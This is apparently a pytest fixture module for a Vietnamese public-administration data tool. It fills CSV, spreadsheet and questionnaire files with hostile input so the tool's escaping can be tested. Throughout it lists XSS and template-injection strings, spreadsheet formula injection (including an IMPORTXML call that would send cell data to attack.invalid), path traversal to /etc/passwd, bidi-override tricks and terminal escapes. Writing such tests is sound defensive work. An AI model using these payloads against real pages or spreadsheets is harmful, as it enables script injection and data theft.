"""A warehouse whose every text tries to run, to fetch, to reorder or to compute something."""

import json
from pathlib import Path

import openpyxl
import pytest

import cchc_analysis as cchc

MARK = "window.__pwned=1"
RUNNING = (
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"</style></title></textarea><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f'"><svg onload={MARK}>',
    f"' autofocus onfocus={MARK} x='",
    f"<details open ontoggle={MARK}>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f"<base href=https://attack.invalid/><a href=javascript:{MARK}>x</a>",
    "<link rel=stylesheet href=https://attack.invalid/a.css><meta http-equiv=refresh content=0;url=//attack.invalid>",
    f"[x](javascript:{MARK}) ![x](https://attack.invalid/a.png) <https://attack.invalid/>",
    f"&lt;script&gt;{MARK}&lt;/script&gt; &#60;img src=x onerror={MARK}&#62;",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "$\\href{javascript:x}{y}$ $$\\frac{1}{0}$$ \\(\\input{/etc/passwd}\\)",
    f"<!-- --!><table><tr><td><form action=https://attack.invalid/><button formaction=javascript:{MARK}>",
    "</main></table></div><h1>chèn</h1>",
)
"""Each would act if it stood in a page as markup, in a template as a command, in a figure as mathematics."""

COMPUTING = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://attack.invalid/","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://attack.invalid/?",A1),"//a")',
)
"""Each would be a formula if a cell of a spreadsheet held it as one."""

REORDERING = (
    "\u202egpj.exe",
    "a\u2066\u202eb\u2069",
    "Phường\u200b 9\u200d",
    "\u061cx\u200ey\u200fz",
    "a\u202bb\u202ac",
)
"""Each holds characters that nobody sees and that turn or hide what stands beside them."""

PLACING = (
    "../../../../etc/passwd",
    "..\\..\\a",
    "C:\\a:b|c?*",
    "CON",
    "%2e%2e%2f%00",
    "a\x00b\x1b]0;x\x07c\x1b[31md",
    "a\r\nb",
)
ATTACKS = (*RUNNING, *COMPUTING, *REORDERING, *PLACING)

UNIT = f"Sở <script>{MARK}</script>\"'><img src=x onerror={MARK}>{{{{7*7}}}}$x_1$\u202e\u200b`*_[y](javascript:{MARK})"
"""An office outside units.csv, whose name is the title of a page, a folder, a sheet and a caption."""

KEY = "a key of this test, long enough"
HEADER = (
    "Mã hồ sơ,Thủ tục hành chính,Lĩnh vực,Đơn vị tiếp nhận,Hình thức tiếp nhận,Ngày tiếp nhận,Ngày hẹn trả,"
    "Ngày trả kết quả,Trạng thái,Thời gian quy định,Thời gian sau cắt giảm,Ghi chú"
)


def quoted(*cells: str) -> str:
    return ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)


def dossiers() -> str:
    """Write dossiers of three months: an attack in each name, some late, and one row that is rejected for it."""
    lines = [HEADER]
    for month in range(3):
        for number, attack in enumerate((*ATTACKS, *ATTACKS)):
            office = (UNIT, "Phường 1", f"Sở {attack}")[number % 3]
            done = f"{20 if number % 4 else 8:02d}/{4 + month:02d}/2023"
            code = f"H06-{month}{number:04d}"
            dates = (f"03/{4 + month:02d}/2023", f"10/{4 + month:02d}/2023", done)
            terms = ("Đã trả kết quả", "5 ngày làm việc", "3 ngày làm việc")
            lines.append(quoted(code, attack, attack, office, "Trực tuyến", *dates, *terms, attack))
    lines += [quoted(attack, attack, attack, "Phường 1", attack, attack, attack, attack, attack) for attack in ATTACKS]
    return "\n".join(lines) + "\n"


def workbook(path: Path) -> None:
    """Write an export whose sheet bears an attack too."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "<b onclick=x>=1+1'\"&"
    sheet.append(HEADER.split(","))
    for number, attack in enumerate(RUNNING):
        row = [f"X06-{number:04d}", attack, attack, f"Sở {attack}", attack, "03/05/2023", "10/05/2023", "20/05/2023"]
        sheet.append([*row, "Đã trả kết quả", "", "", attack])
        # What openpyxl takes for a formula would be one of the export's own.
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    book.save(path)


def register_files(root: Path) -> None:
    """Write evidence, payments, feedback, catalogue and indices with an attack in every text."""
    texts: dict[str, list[str]] = {
        "minh-chung": [
            "Kế hoạch,Mã cam kết,Kỳ báo cáo,Đơn vị báo cáo,Tử số,Mẫu số,Đã thực hiện,Số lượng,Ngày thực hiện,"
            '"Văn bản, tài liệu chứng minh",Ngày báo cáo',
            *(
                quoted(
                    "vung-tau-2023", f"C{1 + n % 20:02d}", "2023-Q2", "Phường 1", "3", "3", "", "", "", a, "10/06/2023"
                )
                for n, a in enumerate(ATTACKS)
            ),
        ],
        "nop-bao-cao": [
            'Kế hoạch,Mã nhiệm vụ báo cáo,Kỳ báo cáo,Đơn vị báo cáo,Ngày gửi báo cáo,"Số, ký hiệu văn bản"',
            *(quoted("vung-tau-2023", "D03", "2023-Q2", "Phường 1", "10/06/2023", attack) for attack in ATTACKS),
        ],
        "payments": [
            "Mã hồ sơ,Số biên lai,Tên người nộp,Ngày yêu cầu thanh toán,Ngày thu,Tổng (VNĐ),Hình thức thanh toán,"
            "Trạng thái thanh toán,Đơn vị",
            *(
                quoted(
                    f"H06-0{n:04d}",
                    f"{a}{n}",
                    a,
                    "05/05/2023",
                    "05/05/2023",
                    "80.000",
                    "Tiền mặt",
                    "Đã thanh toán",
                    UNIT,
                )
                for n, a in enumerate(ATTACKS)
            ),
        ],
        "feedback": [
            "Mã phản ánh,Người phản ánh,Nguồn phản ánh,Lĩnh vực,Đơn vị xử lý,Nội dung phản ánh,Ngày tiếp nhận,"
            "Hạn trả lời,Ngày trả lời,Trạng thái,Công khai trả lời,Mức độ hài lòng",
            *(
                quoted(
                    f"PA-{n}",
                    a,
                    "Cổng dịch vụ công",
                    a,
                    f"Sở {a}",
                    a,
                    "05/05/2023",
                    "20/05/2023",
                    "06/05/2023",
                    "Đã trả lời",
                    "Có",
                    "Hài lòng",
                )
                for n, a in enumerate(ATTACKS)
            ),
        ],
        "procedures": [
            "Mã TTHC,Tên thủ tục hành chính,Lĩnh vực,Mức độ dịch vụ công trực tuyến,Cơ quan thực hiện",
            *(quoted(f"1.{n:06d}", attack, attack, "Toàn trình", UNIT) for n, attack in enumerate(ATTACKS)),
        ],
        "chi-so": [
            "Chỉ số,Nội dung chỉ số,Địa phương,Năm,Giá trị chỉ số,Điểm tối đa,Thứ hạng,Số địa phương xếp hạng,"
            "Phương pháp,Nguồn số liệu",
            *(
                quoted("SIPAS", a, "Thành phố Vũng Tàu", f"{2015 + n}", "81,2", "100", "4", "8", a, a)
                for n, a in enumerate(RUNNING[:8])
            ),
        ],
    }
    for folder, lines in texts.items():
        path = root / folder / f"{folder}<img src=x onerror=window.__pwned=1>.csv"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def questionnaire(path: Path) -> None:
    """Write a questionnaire whose title, questions, factors, points and choices are attacks."""
    points = [{"value": n, "vi": f"Mức {n} {RUNNING[n]}", "en": f"Point {n} {RUNNING[n]}"} for n in range(1, 6)]
    wording = [{"vi": f"Câu {n} {attack}", "en": f"Item {n} {attack}"} for n, attack in enumerate(RUNNING)]
    told = {
        "id": "hostile-survey",
        "title": {"vi": f"Khảo sát {UNIT}", "en": f"Survey {UNIT}"},
        "source": {"vi": RUNNING[0], "en": RUNNING[0]},
        "folders": ["phieu-la"],
        "scales": {"satisfaction": {"best": "highest", "satisfied": [4, 5], "points": points}},
        "missing": [],
        "factors": [{"id": "access", **wording[0]}, {"id": "officials", **wording[3]}],
        "questions": [
            *(
                {
                    "id": f"q{n}",
                    "factor": ("access", "officials")[n % 2],
                    "scale": "satisfaction",
                    **words,
                    "also": [f"C{n}"],
                }
                for n, words in enumerate(wording[:6])
            ),
            {
                "id": "overall",
                "scale": "satisfaction",
                "overall": True,
                "vi": f"Chung {MARK}",
                "en": "All",
                "also": ["C9"],
            },
        ],
    }
    path.write_text(json.dumps(told, ensure_ascii=False), encoding="utf-8")


def survey(root: Path) -> Path:
    lines = ["Mã phiếu;Ngày khảo sát;Đơn vị;Lĩnh vực;C0;C1;C2;C3;C4;C5;C9;Ý kiến khác"]
    for n in range(80):
        attack = ATTACKS[n % len(ATTACKS)].replace(";", ",").replace("\r\n", " ").replace('"', "'")
        answers = ";".join(str(1 + (n + k) % 5) for k in range(7))
        lines.append(f"P{n};{3 + n % 20:02d}/05/2023;{'Phường 1' if n % 2 else 'Phường 2'};{attack};{answers};{attack}")
    path = root / "phieu-la" / "phieu`<svg onload=window.__pwned=1>.csv"
    path.parent.mkdir()
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def hostile_city(root: Path) -> Path:
    """Take it all into `root/kho` and return that folder."""
    exports = root / "xuat"
    exports.mkdir()
    (exports / "a<img src=x onerror=window.__pwned=1>\u202egnp'\"&.csv").write_text(dossiers(), encoding="utf-8")
    workbook(exports / "=1+1 {{7*7}}\x1b[31m.xlsx")
    register_files(exports)
    asked = root / "phieu.yaml"
    questionnaire(asked)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CCHC_HASH_KEY", KEY)
        day = cchc.parse_period("2023-Q2").end
        cchc.take_in([exports], root / "kho", as_of=day, allowed_reject_share=1)
        forms = survey(root)
        cchc.take_in([forms], root / "kho", as_of=day, kind="survey", questionnaire=str(asked), allowed_reject_share=1)
    return root / "kho"
